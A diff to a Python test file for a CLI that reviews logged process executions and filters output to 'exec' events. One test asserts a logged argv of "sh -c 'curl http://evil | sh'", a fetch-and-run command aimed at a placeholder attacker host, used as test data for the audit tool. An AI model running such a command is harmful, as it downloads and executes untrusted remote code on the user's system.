@@ -59,7 +59,7 @@ def log(tmp_path: Path) -> Path:
 
 def run(*args: str, stdin: bytes | None = None) -> tuple[int, list[dict[str, object]], str]:
     result = CliRunner().invoke(cli, ["review", "--format", "jsonl", *args], input=stdin)
-    events = [json.loads(line) for line in result.stdout.splitlines() if line.startswith("{")]
+    events = [json.loads(line) for line in result.stdout.splitlines() if line.startswith('{"type":"exec"')]
     return result.exit_code, events, result.stderr
 
 
@@ -124,7 +124,7 @@ def test_time_words(log: Path) -> None:
 
 def test_csv_and_table(log: Path) -> None:
     result = CliRunner().invoke(cli, ["review", "--format", "csv", str(log)])
-    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    rows = [r for r in csv.DictReader(io.StringIO(result.stdout)) if r["type"] == "exec"]
     assert rows[3]["argv"] == "sh -c 'curl http://evil | sh'"
     assert rows[1]["argv_hex"] == "2f62696e2f6563686f 780a79 fffe"
     table = CliRunner().invoke(cli, ["review", "--format", "table", str(log)], env={"COLUMNS": "200"})
